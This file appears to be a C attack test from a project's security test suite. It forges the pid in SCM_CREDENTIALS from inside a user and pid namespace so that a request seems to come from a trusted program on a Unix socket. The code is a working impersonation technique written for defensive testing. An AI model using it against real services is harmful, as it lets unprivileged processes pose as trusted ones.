// SPDX-License-Identifier: Apache-2.0
/*
 * A16: the pid in SCM_CREDENTIALS is a claim. Root of a user namespace may name any process of a pid namespace that it
 * owns (reference/kernel.md K2). Runs in svid-attack as evil.
 */
#include <errno.h>
#include <sched.h>
#include <signal.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include "tests/attack/attack.h"

#define CONNECT_SETTLE_MS 300

static ssize_t send_as(int fd, const struct request *r, pid_t pid)
{
	struct ucred claim = {.pid = pid, .uid = getuid(), .gid = getgid()};
	char control[CMSG_SPACE(sizeof(claim))] = {0};
	struct iovec iov = {.iov_base = (void *)r->bytes, .iov_len = r->len};
	struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = control,
			     .msg_controllen = sizeof(control)};
	struct cmsghdr *c = CMSG_FIRSTHDR(&msg);

	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_CREDENTIALS;
	c->cmsg_len = CMSG_LEN(sizeof(claim));
	memcpy(CMSG_DATA(c), &claim, sizeof(claim));
	return sendmsg(fd, &msg, MSG_NOSIGNAL);
}

/* Process 1 of the new pid namespace: starts the trusted program, then speaks in its name. */
static void forge(const struct options *o, int fd)
{
	struct request r;
	struct answer a;
	pid_t pid;
	ssize_t n;

	answer_init(&a);
	request_build(&r);
	/* variant=exec: A2 as well, the connection is made by evil and its process becomes trusted */
	pid = spawn_as(is_variant(o, "exec") ? o->evil : o->trusted,
		       is_variant(o, "exec") ? "connect-exec" : "connect-fd", word("fd", fd),
		       word_text("socket", o->socket), word_text("trusted", o->trusted),
		       word("delay", is_variant(o, "exec") ? 0 : o->wait_ms + 1000), NULL);
	sleep_ms(CONNECT_SETTLE_MS);
	n = send_as(fd, &r, pid);
	if (n < 0)
		answer_ended(&a, n, errno);
	client_read(fd, &a, o->wait_ms, true);
	answer_say("thief", &a);
	kill(pid, SIGKILL);
	_exit(0);
}

static int a16(const struct options *o)
{
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	pid_t pid;

	enter_user_ns(CLONE_NEWPID);
	pid = fork();
	if (pid < 0)
		die("fork");
	if (pid == 0)
		forge(o, fd);
	close(fd);
	reap(pid);
	return 0;
}

const struct command ucred_commands[] = {
	{"a16", "a request with forged SCM_CREDENTIALS on a connection of the trusted program", a16},
	{NULL, NULL, NULL},
};
